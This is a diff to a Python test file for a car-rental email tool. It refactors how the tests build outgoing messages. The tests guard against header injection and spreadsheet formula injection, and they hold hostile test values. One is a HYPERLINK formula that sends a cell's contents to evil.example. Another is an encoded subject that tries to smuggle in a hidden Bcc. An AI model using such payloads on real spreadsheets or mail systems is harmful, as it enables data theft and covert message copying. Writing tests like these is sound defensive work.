@@ -12,6 +12,20 @@ from avtoprokat_mail.model import Client
 from avtoprokat_mail.storage import clients as client_store
 from avtoprokat_mail.validation import spreadsheet_safe
 
+
+def wire_bytes(template, client, *, fast: bool) -> bytes:
+    """The message as it goes out: through the engine's fast path or build_email."""
+    from avtoprokat_mail.sending.message import EmailFactory, Sender, build_email
+
+    sender = Sender("Офис", "office@avtoprokat.ru")
+    built = (
+        EmailFactory(template, sender).build(client)
+        if fast
+        else build_email(template, client, sender)
+    )
+    return built if isinstance(built, bytes) else built.as_bytes()
+
+
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Скидка")'
 
 
@@ -75,17 +89,10 @@ def test_a_templates_own_subject_cannot_inject_a_header(tmp_path, fast):
     from email import policy
 
     from avtoprokat_mail.model import Template
-    from avtoprokat_mail.sending.message import EmailFactory, Sender, build_email
 
     template = Template(subject="Sale =?UTF-8?Q?=0A?=Bcc: spy@evil.example", body="Текст")
-    sender = Sender("Офис", "office@avtoprokat.ru")
     client = Client(surname="Иванов", email="ivanov@mail.ru")
-    built = (
-        EmailFactory(template, sender).build(client)
-        if fast
-        else build_email(template, client, sender)
-    )
-    wire = built if isinstance(built, bytes) else built.as_bytes()
+    wire = wire_bytes(template, client, fast=fast)
     message = email.message_from_bytes(wire, policy=policy.default)
     assert message["Bcc"] is None and b"\r\nBcc:" not in wire
     assert "spy@evil.example" in message["Subject"]  # kept as harmless text
@@ -175,17 +182,10 @@ def test_a_hostile_display_name_reads_back_as_the_clients_one_address(name, fast
     from email import policy
 
     from avtoprokat_mail.model import Template
-    from avtoprokat_mail.sending.message import EmailFactory, Sender, build_email
 
     template = Template(subject="Скидка", body="Текст")
-    sender = Sender("Офис", "office@avtoprokat.ru")
     client = Client(surname=name, email="client@mail.ru")
-    built = (
-        EmailFactory(template, sender).build(client)
-        if fast
-        else build_email(template, client, sender)
-    )
-    wire = built if isinstance(built, bytes) else built.as_bytes()
+    wire = wire_bytes(template, client, fast=fast)
     message = email.message_from_bytes(wire, policy=policy.default)
     (address,) = message["To"].addresses
     assert address.addr_spec == "client@mail.ru"
